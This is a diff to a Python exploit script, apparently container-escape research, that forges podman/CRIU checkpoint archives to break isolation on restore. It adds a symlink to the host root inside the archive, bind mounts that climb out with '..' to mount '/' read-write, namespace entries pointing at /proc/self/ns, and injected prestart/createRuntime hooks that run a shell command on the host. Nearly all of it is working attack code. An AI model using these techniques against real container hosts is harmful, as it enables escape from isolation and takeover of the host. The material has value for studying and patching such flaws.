@@ -108,12 +108,22 @@ def pyc(data, fn):
     out = io.BytesIO(); pycriu.images.dump(doc, out); return out.getvalue()
 
 
-SELF = ("selfdd", "selfddrun", "selfvol")
+SELF = ("selfdd", "selfddrun", "selfvol", "selflink")
+NS = ("nsmnt", "nsuts", "nsipc", "nspid", "nsuser", "hook")
 def spec_edit(spec):
     if mode == "selfdd":  # the container's own userdata (root's, not movable) climbed out of with '..'
         spec["mounts"].append({"destination": "/mnt", "type": "bind", "source": ud + "/../../../../../../..", "options": ["rbind", "rw"]})
     elif mode == "selfddrun":
         spec["mounts"].append({"destination": "/mnt", "type": "bind", "source": f"/run/containers/storage/overlay-containers/{cid}/userdata/../../../../../..", "options": ["rbind", "rw"]})
+    elif mode == "selflink":  # a link the archive itself puts in the userdata directory (podman untars it there)
+        spec["mounts"].append({"destination": "/mnt", "type": "bind", "source": ud + "/attack30f-link/.", "options": ["rbind", "rw"]})
+    elif mode in NS[:5]:
+        kind = {"nsmnt": "mount", "nsuts": "uts", "nsipc": "ipc", "nspid": "pid", "nsuser": "user"}[mode]
+        path = "/proc/self/ns/" + {"mount": "mnt"}.get(kind, kind)
+        spec["linux"]["namespaces"] = [n for n in spec["linux"]["namespaces"] if n["type"] != kind] + [{"type": kind, "path": path}]
+    elif mode == "hook":
+        spec.setdefault("hooks", {})["prestart"] = [{"path": "/bin/sh", "args": ["sh", "-c", "id > /var/tmp/attack30f/hook-ran"]}]
+        spec["hooks"]["createRuntime"] = spec["hooks"]["prestart"]
     elif mode == "specbind":
         spec["mounts"].append({"destination": "/mnt", "type": "bind", "source": "/", "options": ["rbind", "rw"]})
     elif mode == "procmnt":
@@ -272,7 +282,7 @@ with open(out, "wb") as sink, zstandard.ZstdCompressor().stream_writer(sink) as 
     for m, data in members:
         if m.name == "checkpoint/gpuckpt-dump.sig":
             continue
-        NEW = SELF + ("dotpath", "nestns", "mntdumper", "sbrosys", "sbrocg", "cgmnt", "sbro", "reparent", "reparentmq", "specbind", "procmnt", "sysadmin", "cgdev", "cgprocs", "cgprocs2", "dupro")
+        NEW = SELF + NS + ("dotpath", "nestns", "mntdumper", "sbrosys", "sbrocg", "cgmnt", "sbro", "reparent", "reparentmq", "specbind", "procmnt", "sysadmin", "cgdev", "cgprocs", "cgprocs2", "dupro")
         if m.name.startswith("checkpoint/mountpoints-") and mode in SELF + ("specbind", "procmnt", "sysadmin", "dupro", "reparent", "sbro", "sbrosys", "mntdumper", "dotpath", "sbrocg", "cgmnt",
                                                                       "reparentmq"):
             data = pyc(data, mounts)
@@ -304,6 +314,9 @@ with open(out, "wb") as sink, zstandard.ZstdCompressor().stream_writer(sink) as 
             m.size = len(data); tout.addfile(m, io.BytesIO(data))
         else:
             tout.addfile(m)
+    if mode == "selflink":
+        info = tarfile.TarInfo("attack30f-link"); info.type, info.linkname = tarfile.SYMTYPE, "/"
+        tout.addfile(info)
     if mode == "binfmt":
         data = binfmt_image(name="attack30f", interpreter=f"{ud}/attack30f-interp", extension="attack30f")
         info = tarfile.TarInfo("checkpoint/binfmt-misc.img"); info.size, info.mode = len(data), 0o644
